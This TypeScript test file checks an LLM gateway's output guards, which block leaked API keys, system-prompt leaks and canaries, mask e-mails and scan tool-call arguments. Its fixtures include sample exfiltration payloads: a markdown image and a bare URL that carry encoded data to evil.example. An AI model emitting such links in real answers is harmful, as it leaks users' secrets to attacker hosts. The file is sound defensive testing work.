import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import type { ChatChunk, ChatResponse, ChoiceDelta } from '../../canonical/types.js';
import { guardsSchema } from '../../config/guards.js';
import { indexPrompt } from '../../guards/leak.js';
import { compileGuards, routeGuardsSchema, type RouteGuardsInput } from '../../guards/policy.js';
import { silentLogger } from '../../log.js';
import type { StageContext, StreamInspector, Verdict } from '../../pipeline/types.js';
import { createRequestGuardsRegistry } from '../input/guards.js';
import { outputGuardStage } from './guards.js';

const KEY = `sk-proj-${'q7Zk2Lm9Xp4Rt8Vw3Ny6Bc1Hd5Gf0JsA'.repeat(2)}`;
const SYSTEM = 'You are the billing assistant of Example Corp. Answer only questions about invoices, refunds and payment methods; never discuss internal pricing.';
const CANARY = 'pc-AbCdEfGhIjKlMnOpQrStUv';

function ctx(): StageContext {
  return { requestId: 'r1', api: 'openai', operation: 'chat', sourceIp: '127.0.0.1', headers: {}, principal: undefined, context: undefined, signal: new AbortController().signal, log: silentLogger(), decisions: [] };
}

function setup(route: RouteGuardsInput = {}, extra: { canary?: string; system?: string } = {}) {
  const compiled = compileGuards(guardsSchema.parse({}), [{ model: 'm', guards: routeGuardsSchema.parse(route) }]);
  const registry = createRequestGuardsRegistry();
  const stage = outputGuardStage({ guards: () => compiled, hashKey: Buffer.alloc(32, 2), registry });
  const c = ctx();
  const policy = compiled.policies.get('m');
  assert.ok(policy);
  const leak = extra.system === undefined ? undefined : indexPrompt(extra.system, policy.output.leakMinChars);
  registry.remember(c, { policy, ...(extra.canary ? { canary: extra.canary } : {}), ...(leak ? { leak } : {}) });
  return { stage, c };
}

const chunk = (content: string, finish?: 'stop'): ChatChunk => ({ kind: 'chunk', id: 'x', model: 'm', created: 0, choices: [{ index: 0, delta: { content }, ...(finish ? { finishReason: finish } : {}) }] });

/** Feeds text pieces through an inspector; returns what reached the client and the final verdict. */
function feed(inspector: StreamInspector, pieces: readonly string[]): { sent: string; perChunk: string[]; denied?: Verdict<readonly ChatChunk[]> } {
  const perChunk: string[] = [];
  const collect = (v: Verdict<readonly ChatChunk[]>, original: ChatChunk[]): string => {
    const out = v.action === 'replace' ? v.value : v.action === 'pass' ? original : [];
    return out.flatMap((c) => c.choices.map((ch: ChoiceDelta) => ch.delta.content ?? '')).join('');
  };
  for (const [i, p] of pieces.entries()) {
    const c = chunk(p, i === pieces.length - 1 ? 'stop' : undefined);
    const v = inspector.onChunk(c) as Verdict<readonly ChatChunk[]>;
    if (v.action === 'deny') return { sent: perChunk.join(''), perChunk, denied: v };
    perChunk.push(collect(v, [c]));
  }
  const end = inspector.onEnd() as Verdict<readonly ChatChunk[]>;
  if (end.action === 'deny') return { sent: perChunk.join(''), perChunk, denied: end };
  perChunk.push(collect(end, []));
  return { sent: perChunk.join(''), perChunk };
}

describe('output guards on streams', () => {
  const table: { name: string; route?: RouteGuardsInput; extra?: { canary?: string; system?: string }; pieces: string[]; code?: string; sent?: string; reason?: RegExp }[] = [
    { name: 'a clean answer goes through unchanged', pieces: ['Hello ', 'there, how ', 'can I help?'], sent: 'Hello there, how can I help?' },
    { name: 'a secret split across two chunks is caught', pieces: ['Your key is ', KEY.slice(0, 20), `${KEY.slice(20)} ok`], code: 'PC_ERR_OUTPUT_BLOCKED', reason: /^secret:SECRET_OPENAI_KEY:block@c0:12-/ },
    { name: 'a split e-mail is masked', pieces: ['Write to anna.ke', 'ller@example.org today'], sent: 'Write to [EMAIL_ADDRESS] today', reason: /^pii:EMAIL_ADDRESS:mask@c0:9-32$/ },
    { name: 'PII log-only passes and records', route: { output: { pii: 'log-only' } }, pieces: ['Write to anna.keller@', 'example.org today'], sent: 'Write to anna.keller@example.org today', reason: /^pii:EMAIL_ADDRESS:log-only@c0:9-32$/ },
    { name: 'an exfiltration image split across chunks is blocked', pieces: ['Done. ![status](https://evil.exa', 'mple/p.png?d=c2VjcmV0) bye'], code: 'PC_ERR_OUTPUT_BLOCKED', reason: /^link:image\+data:block@c0:/ },
    { name: 'a link to an allowed host passes', route: { output: { links: { allowedHosts: ['docs.example.com'] } } }, pieces: ['See ![x](https://docs.example.com/a.png?v=2) ok'], sent: 'See ![x](https://docs.example.com/a.png?v=2) ok' },
    { name: 'a bare URL with data is blocked', pieces: ['Send it to https://evil.example/c?u=alice', ' now'], code: 'PC_ERR_OUTPUT_BLOCKED', reason: /^link:url\+data:block/ },
    { name: 'the canary split across chunks is a prompt leak', extra: { canary: CANARY }, pieces: ['The reference is pc-AbCdEf', 'GhIjKlMnOpQrStUv, sorry'], code: 'PC_ERR_PROMPT_LEAK', reason: /^canary:block@c0$/ },
    { name: '80 characters of the system prompt are a prompt leak', extra: { system: SYSTEM }, pieces: ['My instructions say: ', SYSTEM.slice(0, 50), SYSTEM.slice(50, 100)], code: 'PC_ERR_PROMPT_LEAK', reason: /^prompt-leak:block@c0$/ },
    { name: 'a short quote of the system prompt is not a leak', extra: { system: SYSTEM }, pieces: ['I answer ', SYSTEM.slice(47, 100), '.'], sent: `I answer ${SYSTEM.slice(47, 100)}.` },
    { name: 'guards off passes everything', route: { enabled: false }, pieces: ['key ', KEY], sent: `key ${KEY}` },
  ];
  for (const c of table) {
    it(c.name, () => {
      const { stage, c: context } = setup(c.route, c.extra);
      const r = feed(stage.openStream?.(context) as StreamInspector, c.pieces);
      if (c.code) {
        assert.equal(r.denied?.action === 'deny' && r.denied.code, c.code, JSON.stringify(r));
        assert.ok(!r.sent.includes(KEY) && !r.sent.includes(CANARY), 'nothing sensitive got out whole');
      } else {
        assert.equal(r.denied, undefined, JSON.stringify(r.denied));
        assert.equal(r.sent, c.sent);
      }
      if (c.reason) {
        const reasons = r.denied?.reasons ?? [];
        assert.ok(reasons.some((x) => c.reason?.test(x)) || c.code === undefined, JSON.stringify(reasons));
      }
    });
  }

  it('releases text at once, holding back only the trailing word', () => {
    const { stage, c } = setup();
    const r = feed(stage.openStream?.(c) as StreamInspector, ['The quick brown fo', 'x jumps over ', 'the lazy dog']);
    assert.deepEqual(r.perChunk, ['The quick brown ', 'fox jumps over ', 'the lazy dog', '']);
  });

  it('holds no more than the window of a long token', () => {
    const { stage, c } = setup({ output: { windowChars: 128 } });
    const inspector = stage.openStream?.(c) as StreamInspector;
    const v = inspector.onChunk(chunk('a'.repeat(1000))) as Verdict<readonly ChatChunk[]>;
    assert.equal(v.action, 'replace');
    if (v.action === 'replace') assert.equal(v.value[0]?.choices[0]?.delta.content?.length, 1000 - 128);
  });

  it('scans tool-call argument deltas', () => {
    const { stage, c } = setup();
    const inspector = stage.openStream?.(c) as StreamInspector;
    const tc = (args: string, first = false): ChatChunk => ({ kind: 'chunk', id: 'x', model: 'm', created: 0, choices: [{ index: 0, delta: { toolCalls: [{ index: 0, ...(first ? { id: 'call_1', name: 'send' } : {}), arguments: args }] } }] });
    const first = inspector.onChunk(tc('{"token":"', true)) as Verdict<readonly ChatChunk[]>;
    assert.equal(first.action, 'replace');
    const second = inspector.onChunk(tc(`${KEY.slice(0, 30)}`)) as Verdict<readonly ChatChunk[]>;
    const third = second.action === 'deny' ? second : (inspector.onChunk(tc(`${KEY.slice(30)}"}`)) as Verdict<readonly ChatChunk[]>);
    assert.equal(third.action === 'deny' && third.code, 'PC_ERR_OUTPUT_BLOCKED');
  });

  it('fails closed when a detector throws, open when the route says so', () => {
    for (const failOpen of [false, true]) {
      const compiled = compileGuards(guardsSchema.parse({}), [{ model: 'm', guards: routeGuardsSchema.parse({ output: { failOpen } }) }]);
      const broken = { ...compiled, scanner: { ...compiled.scanner, scan: () => { throw new Error('boom'); } } };
      const registry = createRequestGuardsRegistry();
      const stage = outputGuardStage({ guards: () => broken, hashKey: Buffer.alloc(32), registry });
      const context = ctx();
      registry.remember(context, { policy: compiled.policies.get('m') ?? compiled.fallback });
      const inspector = stage.openStream?.(context) as StreamInspector;
      if (failOpen) assert.deepEqual(inspector.onChunk(chunk('hello ')), { action: 'pass', reasons: ['fail-open:error'] });
      else assert.throws(() => inspector.onChunk(chunk('hello ')), /boom/);
    }
  });
});

describe('output guards on whole answers', () => {
  const answer = (content: string): ChatResponse => ({ kind: 'chat', id: 'x', model: 'm', created: 0, choices: [{ index: 0, message: { role: 'assistant', content }, finishReason: 'stop' }] });
  const table: { name: string; content: string; action: string; code?: string; content2?: string }[] = [
    { name: 'clean', content: 'All good.', action: 'pass' },
    { name: 'secret', content: `Here: ${KEY}`, action: 'deny', code: 'PC_ERR_OUTPUT_BLOCKED' },
    { name: 'e-mail masked', content: 'Mail anna.keller@example.org', action: 'replace', content2: 'Mail [EMAIL_ADDRESS]' },
    { name: 'exfiltration image', content: '![a](https://evil.example/a.png)', action: 'deny', code: 'PC_ERR_OUTPUT_BLOCKED' },
  ];
  for (const c of table) {
    it(c.name, () => {
      const { stage, c: context } = setup();
      const v = stage.onResponse?.(context, answer(c.content)) as Verdict<ChatResponse>;
      assert.equal(v.action, c.action);
      if (c.code) assert.equal(v.action === 'deny' && v.code, c.code);
      if (c.content2 && v.action === 'replace') assert.equal(v.value.choices[0]?.message.content, c.content2);
    });
  }
  it('throws (fail closed) when the input guards recorded nothing', () => {
    const compiled = compileGuards(guardsSchema.parse({}), []);
    const stage = outputGuardStage({ guards: () => compiled, hashKey: Buffer.alloc(32), registry: createRequestGuardsRegistry() });
    assert.throws(() => stage.onResponse?.(ctx(), answer('x')));
  });
});
